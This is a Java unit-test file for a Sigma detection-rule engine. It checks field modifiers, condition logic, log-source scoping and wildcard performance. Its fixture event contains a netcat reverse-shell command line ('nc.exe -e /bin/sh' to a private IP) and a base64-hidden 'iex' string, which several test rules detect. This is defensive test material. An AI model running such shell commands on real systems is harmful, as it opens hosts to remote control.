package io.weir.enrich.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class DetectionTest {
  private static final String EVENT =
      """
      "message":"Accepted password for root\\nfrom 10.1.2.3",
      "process.command_line":"C:\\\\Tools\\\\nc.exe -e /bin/sh 10.1.2.3",
      "process.executable":"/usr/bin/bash",
      "source.ip":"10.1.2.3",
      "http.response.status_code":404,
      "tags":["network","T1059"],
      "weir.fields":{"proc.pname":"nginx","proc.tty":34816,"evt.time":1795395682716387144,
        "nested":{"key":"Value"},"none":null,"b64":"eHggaWV4IHl5"}""";

  @ParameterizedTest(name = "{0} {2}")
  @CsvSource(
      delimiter = '¦',
      quoteCharacter = '`',
      value = {
        // a value is the whole value, in whatever case
        "Image: /usr/bin/bash                          ¦ is       ¦ whole",
        "Image: /USR/bin/BASH                          ¦ is       ¦ case",
        "Image: bash                                   ¦ is not   ¦ part",
        "Image|cased: /USR/bin/bash                    ¦ is not   ¦ cased",
        "Image: '*/bash'                               ¦ is       ¦ star",
        "Image: '/usr/???/bash'                        ¦ is       ¦ question",
        "Image: '/usr/????/bash'                       ¦ is not   ¦ question",
        "Image: '*/b*s*h'                              ¦ is       ¦ stars",
        "Image: '*x*'                                  ¦ is not   ¦ stars",
        "CommandLine: 'C:\\Tools\\nc.exe*'             ¦ is       ¦ backslashes",
        "CommandLine: 'C:\\\\Tools\\\\nc.exe*'         ¦ is       ¦ escaped",
        "Image|contains: BIN                           ¦ is       ¦ contains",
        "Image|startswith: /usr                        ¦ is       ¦ starts",
        "Image|startswith: usr                         ¦ is not   ¦ starts",
        "Image|endswith: bash                          ¦ is       ¦ ends",
        "Image|contains: 'r\\*b'                       ¦ is not   ¦ escaped star",
        "Image|contains|all: [usr, bash]               ¦ is       ¦ all",
        "Image|contains|all: [usr, zsh]                ¦ is not   ¦ all",
        "Image|contains: [zsh, bash]                   ¦ is       ¦ list",
        "Image|neq: /bin/sh                            ¦ is       ¦ neq",
        "Image|re: '^/usr/(s?)bin/\\w+$'               ¦ is       ¦ regex",
        "Image|re: 'BASH'                              ¦ is not   ¦ regex case",
        "Image|re|i: 'BASH'                            ¦ is       ¦ regex i",
        "message|re: 'root.from'                       ¦ is not   ¦ regex line",
        "message|re|s: 'root.from'                     ¦ is       ¦ regex s",
        "message|re|m: '^from'                         ¦ is       ¦ regex m",
        "SourceIp|cidr: 10.0.0.0/8                     ¦ is       ¦ cidr",
        "SourceIp|cidr: 10.1.2.0/31                    ¦ is not   ¦ cidr",
        "SourceIp|cidr: '::/0'                         ¦ is not   ¦ cidr family",
        "sc-status: 404                                ¦ is       ¦ number",
        "sc-status|gte: 400                            ¦ is       ¦ gte",
        "sc-status|lt: 404                             ¦ is not   ¦ lt",
        "sc-status|lte: 404.0                          ¦ is       ¦ lte",
        "proc.tty|gt: 0                                ¦ is       ¦ gt",
        "Image|gt: 0                                   ¦ is not   ¦ no number",
        "evt.time: 1795395682716387144                 ¦ is       ¦ long number",
        "CommandLine|windash|contains: ' –e '          ¦ is       ¦ dashes",
        "CommandLine|contains: ' –e '                  ¦ is not   ¦ dashes",
        "b64|base64offset|contains: ' iex '            ¦ is       ¦ base64",
        "proc.pname: nginx                             ¦ is       ¦ falco",
        "nested.key: value                             ¦ is       ¦ nested",
        "weir.fields.nested.key: value                 ¦ is       ¦ our name",
        "tags: network                                 ¦ is       ¦ one of many",
        "Image|exists: true                            ¦ is       ¦ exists",
        "none|exists: true                             ¦ is not   ¦ null",
        "User|exists: false                            ¦ is       ¦ absent",
        "User: null                                    ¦ is       ¦ null",
        "Image: null                                   ¦ is not   ¦ null",
        "proc.pname|fieldref: proc.pname               ¦ is       ¦ fieldref",
        "proc.pname|fieldref: proc.tty                 ¦ is not   ¦ fieldref",
        "{Image|endswith: bash, User: null}            ¦ is       ¦ map is and",
        "{Image|endswith: bash, User: root}            ¦ is not   ¦ map is and",
        "[{Image: x}, {Image|endswith: bash}]          ¦ is       ¦ list of maps is or",
        "[for ROOT, nothing]                           ¦ is       ¦ keywords",
        "[nginx]                                       ¦ is       ¦ keyword in a field",
        "{'|all': [accepted, nginx]}                   ¦ is       ¦ all keywords",
        "{'|all': [accepted, apache]}                  ¦ is not   ¦ all keywords",
        "{'|re': 'pass\\w+ for'}                       ¦ is       ¦ keyword regex",
      })
  void matches(String selection, String expected, String what) {
    String block = selection.startsWith("[") || selection.startsWith("{") ? " " : "\n  ";
    DetectionRule rule = Rules.detecting("sel:" + block + selection + "\ncondition: sel\n");

    assertThat(rule.matches(new EventView(Rules.event(EVENT)))).isEqualTo(expected.equals("is"));
  }

  @ParameterizedTest
  @CsvSource({
    "yes,true",
    "no,false",
    "not no,true",
    "not yes or yes,true",
    "not (yes or yes),false",
    "yes or no and no,true",
    "(yes or no) and no,false",
    "yes AND NOT no,true",
    "1 of them,true",
    "all of them,false",
    "any of them,true",
    "2 of ye*,true",
    "3 of ye*,false",
    "1 of n*,false",
    "all of ye*,true",
    "1 of _hidden*,true",
    "not 1 of n* and all of ye*,true",
    "((yes)),true",
  })
  void conditionIs(String condition, boolean expected) {
    DetectionRule rule =
        Rules.detecting(
            """
            yes: {Image|endswith: bash}
            yesterday: {Image|contains: usr}
            no: {Image: x}
            _hidden: {Image|endswith: bash}
            condition: %s
            """
                .formatted(condition));

    assertThat(rule.matches(new EventView(Rules.event(EVENT)))).isEqualTo(expected);
  }

  @Test
  void looksAtEventsOfItsLogSourceOnly() {
    DetectionRule rule =
        Rules.of(
                """
                title: test
                logsource: {product: postgresql}
                detection: {sel: [root], condition: sel}
                """)
            .detections()
            .get(0);

    assertThat(rule.matches(new EventView(Rules.event(EVENT)))).isFalse();
  }

  @Test
  void saysWhichFieldsItReads() {
    DetectionRule rule =
        Rules.detecting(
            "a: {CommandLine: x, proc.pname: y}\nb: {'|all': [x, z]}\ncondition: a or b\n");

    assertThat(rule.fields())
        .containsExactlyInAnyOrder(
            "*", "event.module", "process.command_line", "weir.fields.proc.pname");
  }

  @Test
  void takesLinearTimeForManyStars() {
    DetectionRule rule =
        Rules.detecting("a: {message: '*" + "a*".repeat(50) + "b'}\ncondition: a\n");
    String text = "a".repeat(200_000);

    assertThat(rule.matches(new EventView(Rules.event("\"message\":\"" + text + "\"")))).isFalse();
  }
}
